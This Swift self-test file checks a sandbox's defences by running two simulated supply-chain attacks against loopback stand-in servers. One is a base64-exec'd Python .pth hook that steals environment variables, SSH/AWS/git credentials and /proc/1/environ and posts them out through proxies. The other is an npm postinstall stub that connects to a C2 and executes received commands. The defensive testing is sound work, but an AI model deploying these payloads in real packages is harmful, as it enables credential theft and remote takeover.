import Glibc

/// Supply-chain payloads run inside a sandbox as a poisoned dependency would run them: a Python
/// `.pth` start-up hook that harvests environment, files and keys and posts them out, and an npm
/// postinstall stub that connects back to a command-and-control server and waits for commands.
/// Their targets are stand-in servers on host loopback; the verdict is what those servers saw:
/// any connection or any canary is OPEN. Controls run the same payload on the host, where it
/// reaches the stand-in and delivers the canaries.
enum SupplyChainAttacks {
    static var all: [Attack] { [pthHarvester, npmPostinstallC2] }

    static let sandbox = "selftest-supply"

    /// The canaries a harvester goes for: files in the (stand-in) user's home and elsewhere on
    /// the host, a variable in cordon's environment, and one in the sandbox's own environment.
    struct Canaries {
        let sshKey: CanaryFile
        let deployKey: CanaryFile
        let hostVariable: String
        let sandboxVariable: String
        var markers: [String] { [sshKey.marker, deployKey.marker, hostVariable, sandboxVariable] }

        static func get(_ environment: SelftestEnvironment) throws(SelftestFailure) -> Canaries {
            let canaries = try environment.fixture("supply-chain") { (environment) throws(SelftestFailure) -> Canaries in
                let made = Canaries(
                    sshKey: try CanaryFile(environment, at: environment.home + "/.ssh/id_ed25519", mode: 0o600),
                    deployKey: try CanaryFile(environment, at: environment.hostDirectory + "/deploy/key.txt", mode: 0o600),
                    hostVariable: environment.marker(), sandboxVariable: environment.marker())
                environment.setEnvironment("SELFTEST_HOST_TOKEN", made.hostVariable)
                return made
            }
            _ = try environment.shared(sandbox) { (environment) throws(SelftestFailure) in
                // Egress on, with one allowed name (pinned; never contacted): the proxy is live and
                // its refusals are what is exercised, not a sandbox without a network.
                let profile = try environment.profile(
                    sandbox,
                    """
                    name: \(sandbox)
                    env:
                      SELFTEST_SANDBOX_TOKEN: "\(canaries.sandboxVariable)"
                    egress:
                      domains: ["pypi.org"]
                      resolve: {pypi.org: 192.0.2.10}
                    """)
                try environment.up(sandbox, profile: profile, workspace: try environment.workspace("supply"))
            }
            return canaries
        }

        /// The host paths a harvester is told to try (it would guess them).
        var paths: [String] { [sshKey.path, deployKey.path] }
    }

    /// A stand-in target, stopped at cleanup.
    static func standIn(_ environment: SelftestEnvironment) throws(SelftestFailure) -> StandInServer {
        let server = try StandInServer()
        environment.atCleanup { server.stop() }
        return server
    }

    /// What the stand-in saw, waiting up to `wait` seconds for a connection to finish arriving.
    /// An attack succeeds on any connection or canary; a control (`needing` canaries) only when
    /// all of those arrived, so a control proves the canaries can be seen, not just a connection.
    static func seen(
        _ server: StandInServer, _ canaries: Canaries, wait: Double, needing: [String] = [], _ what: String, _ output: ProcessOutput
    ) -> Observation {
        var waited = 0.0
        let awaited = needing.isEmpty ? canaries.markers : needing
        while waited < wait && !(needing.isEmpty ? awaited.contains(where: server.saw) : awaited.allSatisfy(server.saw)) {
            usleep(100_000)
            waited += 0.1
        }
        usleep(200_000)
        let got = canaries.markers.filter(server.saw)
        server.stop()
        if server.connections == 0 && got.isEmpty {
            return .failed("\(what): the stand-in saw no connection and no canary (\(output.summary))")
        }
        if !needing.allSatisfy(server.saw) {
            return .failed("\(what): the stand-in saw \(server.connections) connection(s) but not every canary (\(got.count) of \(needing.count))")
        }
        return .succeeded("\(what): the stand-in saw \(server.connections) connection(s) and \(got.count) of \(canaries.markers.count) canaries")
    }

    // MARK: - The .pth harvester

    /// The harvester (Python): env, key files, /proc/1/environ, posted raw, over HTTP, through the
    /// proxy with CONNECT and SOCKS5, to every loopback spelling of the stand-in.
    static func harvester(port: UInt16, paths: [String]) -> String {
        let list = paths.map { "\"" + $0 + "\"" }.joined(separator: ", ")
        return """
            import glob, json, os, socket, urllib.request
            PORT = \(port)
            loot = {"env": dict(os.environ), "files": {}}
            for pattern in ["~/.ssh/*", "~/.aws/*", "~/.netrc", "~/.git-credentials", "~/.config/gh/*", \(list)]:
                for p in glob.glob(os.path.expanduser(pattern)):
                    try:
                        loot["files"][p] = open(p, errors="replace").read(65536)
                    except Exception:
                        pass
            try:
                loot["proc1"] = open("/proc/1/environ", "rb").read().decode(errors="replace")
            except Exception:
                pass
            body = json.dumps(loot).encode()
            post = b"POST /loot HTTP/1.1\\r\\nHost: c2\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body
            def raw(host, port, prefix=b"", socks=False):
                try:
                    s = socket.create_connection((host, port), timeout=3)
                    if socks:
                        s.sendall(b"\\x05\\x01\\x00"); s.recv(2)
                        s.sendall(b"\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01" + PORT.to_bytes(2, "big")); s.recv(10)
                    if prefix:
                        s.sendall(prefix); s.recv(4096)
                    s.sendall(post)
                    s.close()
                except Exception:
                    pass
            for h in ["127.0.0.1", "::1", "localhost", "10.0.2.2", "host.docker.internal", "host.containers.internal"]:
                raw(h, PORT)
            for name in ["http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "all_proxy"]:
                value = os.environ.get(name, "")
                if "://" not in value:
                    continue
                hp = value.split("://", 1)[1].rstrip("/")
                ph, _, pp = hp.rpartition(":")
                if value.startswith("socks"):
                    raw(ph, int(pp), socks=True)
                    continue
                raw(ph, int(pp), prefix=b"CONNECT 127.0.0.1:%d HTTP/1.1\\r\\nHost: 127.0.0.1:%d\\r\\n\\r\\n" % (PORT, PORT))
                for url in ["http://127.0.0.1:%d/loot" % PORT, "http://localhost:%d/loot" % PORT]:
                    try:
                        opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": value}))
                        opener.open(urllib.request.Request(url, data=body), timeout=3)
                    except Exception:
                        pass
            for url in ["http://127.0.0.1:%d/loot" % PORT, "http://localhost:%d/loot" % PORT]:
                try:
                    urllib.request.urlopen(urllib.request.Request(url, data=body), timeout=3)
                except Exception:
                    pass
            """
    }

    /// The `.pth` line: one `import` line that runs the harvester when Python starts.
    static func pthLine(_ source: String) -> String {
        "import base64; exec(base64.b64decode(\"" + base64(Array(source.utf8)) + "\"))"
    }

    static func base64(_ bytes: [UInt8]) -> String {
        let table = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".utf8)
        var out: [UInt8] = []
        var index = 0
        while index < bytes.count {
            let chunk = Array(bytes[index..<min(index + 3, bytes.count)])
            let value = (UInt32(chunk[0]) << 16) | (UInt32(chunk.count > 1 ? chunk[1] : 0) << 8) | UInt32(chunk.count > 2 ? chunk[2] : 0)
            for position in 0..<4 {
                out.append(position <= chunk.count ? table[Int((value >> (18 - 6 * UInt32(position))) & 63)] : UInt8(ascii: "="))
            }
            index += 3
        }
        return String(decoding: out, as: UTF8.self)
    }

    static let pthHarvester = Attack(
        id: "supply.pth-harvester", category: .supplyChain,
        description:
            "a dependency's .pth start-up hook gathers env, key files and /proc/1/environ and posts them to a stand-in (direct, via the proxy, CONNECT, SOCKS5)",
        defence: "mount namespace (host files absent), a clean environment, egress proxy: loopback and unlisted hosts refused",
        control: "the same hook run by python3 on the host posts every canary to the stand-in",
        runControl: { (environment) throws(SelftestFailure) in
            try PythonTool.require(environment)
            let canaries = try Canaries.get(environment)
            let server = try standIn(environment)
            let site = environment.hostDirectory + "/site-control"
            try environment.write(site + "/zz-harvest.pth", pthLine(harvester(port: server.port, paths: canaries.paths)) + "\n")
            let output = try environment.host(
                "SELFTEST_SANDBOX_TOKEN=\(canaries.sandboxVariable) python3 -c 'import site, sys; site.addsitedir(sys.argv[1])' \(Shell.quote(site))")
            return seen(server, canaries, wait: 5, needing: canaries.markers, "host python", output)
        },
        runAttack: { (environment) throws(SelftestFailure) in
            let canaries = try Canaries.get(environment)
            let server = try standIn(environment)
            let line = pthLine(harvester(port: server.port, paths: canaries.paths))
            let output = try environment.exec(
                sandbox,
                """
                site=$(python3 -m site --user-site) && mkdir -p "$site" /workspace/site && printf '%s\\n' \(Shell.quote(line)) | tee "$site/zz-harvest.pth" > /workspace/site/zz-harvest.pth
                python3 -c pass
                python3 -c 'import site; site.addsitedir("/workspace/site")'
                echo ran
                """, timeout: 120)
            guard output.stdout.contains("ran") else { throw SelftestFailure("the sandbox did not run the harvester: \(output.summary)") }
            return seen(server, canaries, wait: 1, "sandbox python", output)
        })

    // MARK: - The npm postinstall C2 stub

    /// A remote-access stub (Node): connects to the C2 on every loopback spelling and through the
    /// proxy (CONNECT), says hello with the environment, runs what it is sent, waits 2 s.
    static func stub(port: UInt16) -> String {
        """
        const net = require("net"), cp = require("child_process");
        const PORT = \(port);
        const hello = "hello " + JSON.stringify(process.env) + "\\n";
        let pending = 0;
        function attempt(host, port, connect) {
          pending++;
          let finished = false;
          const done = () => { if (!finished) { finished = true; if (--pending === 0) process.exit(0); } };
          const s = net.connect({ host, port, timeout: 3000 }, () => {
            const session = () => {
              s.write(hello);
              s.on("data", (d) => cp.exec(d.toString(), (e, out) => s.write(String(out))));
              setTimeout(() => { s.destroy(); done(); }, 2000);
            };
            if (connect) { s.write("CONNECT 127.0.0.1:" + PORT + " HTTP/1.1\\r\\nHost: 127.0.0.1:" + PORT + "\\r\\n\\r\\n"); s.once("data", session); }
            else session();
          });
          s.on("error", done);
          s.on("timeout", () => { s.destroy(); done(); });
        }
        for (const h of ["127.0.0.1", "::1", "localhost"]) attempt(h, PORT, false);
        for (const v of [process.env.https_proxy, process.env.HTTPS_PROXY, process.env.npm_config_https_proxy]) {
          if (!v) continue;
          try { const u = new URL(v); attempt(u.hostname, Number(u.port), true); } catch (e) {}
        }
        setTimeout(() => process.exit(0), 10000);
        """
    }

    /// Writes the package (package.json with the postinstall, c2.js) into `directory`.
    static func package(_ environment: SelftestEnvironment, in directory: String, port: UInt16) throws(SelftestFailure) {
        try environment.write(directory + "/package.json", manifest + "\n")
        try environment.write(directory + "/c2.js", stub(port: port))
    }

    static func requireNpm(_ environment: SelftestEnvironment) throws(SelftestFailure) {
        guard (try? environment.host("command -v npm >/dev/null && command -v node >/dev/null"))?.status == 0 else {
            throw SelftestFailure("npm and node are not on this host's PATH (the attack runs a real npm install)")
        }
    }

    static let manifest = "{\"name\": \"selftest-dep\", \"version\": \"1.0.0\", \"scripts\": {\"postinstall\": \"node c2.js\"}}"

    static let npmInstall = "npm install --offline --no-audit --no-fund --ignore-scripts=false"

    static let npmPostinstallC2 = Attack(
        id: "supply.npm-postinstall-c2", category: .supplyChain,
        description:
            "npm install runs a package's postinstall remote-access stub that connects back to a stand-in C2 (direct and via CONNECT) and waits for commands",
        defence: "network namespace (no route to host loopback), egress proxy refuses loopback and unlisted hosts",
        control: "the same npm install on the host connects to the stand-in C2 and sends the host variable",
        runControl: { (environment) throws(SelftestFailure) in
            try requireNpm(environment)
            let canaries = try Canaries.get(environment)
            let server = try standIn(environment)
            let directory = environment.hostDirectory + "/npm-control"
            try package(environment, in: directory, port: server.port)
            let output = try environment.host(
                "cd \(Shell.quote(directory)) && npm_config_cache=\(Shell.quote(directory + "/.cache")) \(npmInstall)", timeout: 120)
            return seen(server, canaries, wait: 5, needing: [canaries.hostVariable], "host npm install", output)
        },
        runAttack: { (environment) throws(SelftestFailure) in
            try requireNpm(environment)
            let canaries = try Canaries.get(environment)
            let server = try standIn(environment)
            // The sandbox writes the package itself (the workspace's lower layer is not changed under a mounted overlay).
            let output = try environment.exec(
                sandbox,
                """
                mkdir -p /tmp/npm-\(server.port) && cd /tmp/npm-\(server.port) && printf '%s\\n' \(Shell.quote(manifest)) > package.json && printf '%s\\n' \(Shell.quote(stub(port: server.port))) > c2.js
                npm_config_cache=/tmp/npm-cache \(npmInstall)
                echo ran
                """, timeout: 120)
            guard output.stdout.contains("ran") else { throw SelftestFailure("the sandbox did not run npm install: \(output.summary)") }
            return seen(server, canaries, wait: 1, "sandbox npm install", output)
        })
}
